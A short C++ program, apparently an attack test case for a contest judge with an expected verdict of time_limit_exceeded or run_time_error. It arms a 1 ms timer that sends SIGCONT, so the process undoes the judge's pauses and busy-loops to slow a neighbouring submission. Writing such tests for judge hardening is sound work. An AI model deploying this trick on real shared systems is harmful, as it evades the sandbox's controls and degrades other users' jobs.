// Attack: a timer lets it go on whenever the judge pauses it for a neighbor's close run, so that the neighbor is slower.
// Verdict: time_limit_exceeded or run_time_error
#include <csignal>
#include <ctime>

void nothing(int) {}

int main() {
    // Linux 6.13 and newer stop timers whose signal is ignored, as SIGCONT is without a handler.
    std::signal(SIGCONT, nothing);
    sigevent event{};
    event.sigev_notify = SIGEV_SIGNAL;
    event.sigev_signo = SIGCONT;
    timer_t timer;
    if (timer_create(CLOCK_MONOTONIC, &event, &timer) == 0) {
        itimerspec often = {{0, 1'000'000}, {0, 1'000'000}};
        timer_settime(timer, 0, &often, nullptr);
    }
    for (;;) {}
}
